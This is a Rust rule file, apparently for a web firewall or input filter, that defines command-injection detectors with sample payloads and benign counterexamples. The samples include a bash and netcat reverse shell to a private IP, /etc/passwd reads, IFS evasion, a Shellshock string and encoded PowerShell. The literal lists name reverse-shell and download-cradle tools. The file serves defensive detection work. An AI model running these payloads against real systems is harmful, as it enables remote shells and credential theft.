//! Command injection.

super::rules! { TABLE ["rce", "CWE-78", "crs-932"];
    COMMAND "rce-001" "command after a separator" Critical 1:
        "127.0.0.1; cat /etc/passwd", "x%257C%2520whoami",
        not "fish; cat food & dog toys | more";
    SUBSTITUTION "rce-002" "command substitution" Critical 1:
        "$(id)", "x%2560id%2560",
        not "$(document).ready and `ls -la` in Markdown";
    EVASION "rce-003" "shell evasion" Critical 1:
        "cat${IFS}/etc/passwd", ";c%2527a%2527t%2520/etc/passwd",
        not "$IF you can";
    REVERSE "rce-004" "reverse shell" Critical 1:
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc%2520-e%2520/bin/sh%252010.0.0.1%25204444",
        not "bash is a shell";
    SHELLSHOCK "rce-005" "Shellshock" Critical 1:
        "() { :;}; echo x", "()%2520%257B%2520:;%257D;%2520/bin/id",
        not "f() { return 1; }";
    WINDOWS "rce-006" "Windows command" Critical 1:
        "cmd.exe /c dir", "powershell%2520-enc%2520SQBFAFgA",
        not "open cmd and type help";
}
super::literal::literals! {
    SHELLSHOCK, Any, Anywhere: ["() {:;", "() { :;", "() { _; }", "() {:;}", "(){:;", "(){ :;", "() { ignored;"];
    REVERSE, Any, Anywhere: ["/dev/tcp/", "/dev/udp/", "mkfifo /tmp", "bash -i >", "sh -i >", "sh -i 2>", "nc -e ", "ncat -e ", "nc -c ", "0<&196", "socat exec:", "socat tcp", "pty.spawn(", "-lvp ", "fsockopen(\"", "|nc ", "| nc "];
    EVASION, Any, Anywhere: ["${ifs}", "{cat,", "{ls,", "{wget,", "{curl,", "{echo,", "{ping,", "$ifs$", "$ifs/", "$ifs-", "$ifs\"", "{ifs%", "${path:", "${home:", "${ifs:", "$@/", "/???/", "/bin/c?t", "/b?n/", "/bi?/", "/e??/", "/?tc/", "/?in/", "/etc/pass??", "/etc/p*", "/*/passw*"];
    WINDOWS, Any, Anywhere: [
        "cmd.exe", "cmd /c", "cmd /k", "powershell -", "powershell.exe", "powershell iex", "pwsh -", "certutil -urlcache", "certutil.exe", "bitsadmin /", "net user ", "net localgroup", "wscript.shell", "cscript //", "mshta http", "mshta.exe", "regsvr32 /", "rundll32 ", "wmic process", "new-object net.webclient", "invoke-expression", "iex(new-object", "downloadstring(", "%comspec%", "\\system32\\", "reg add hk", "reg query hk", "schtasks /",
    ];
}
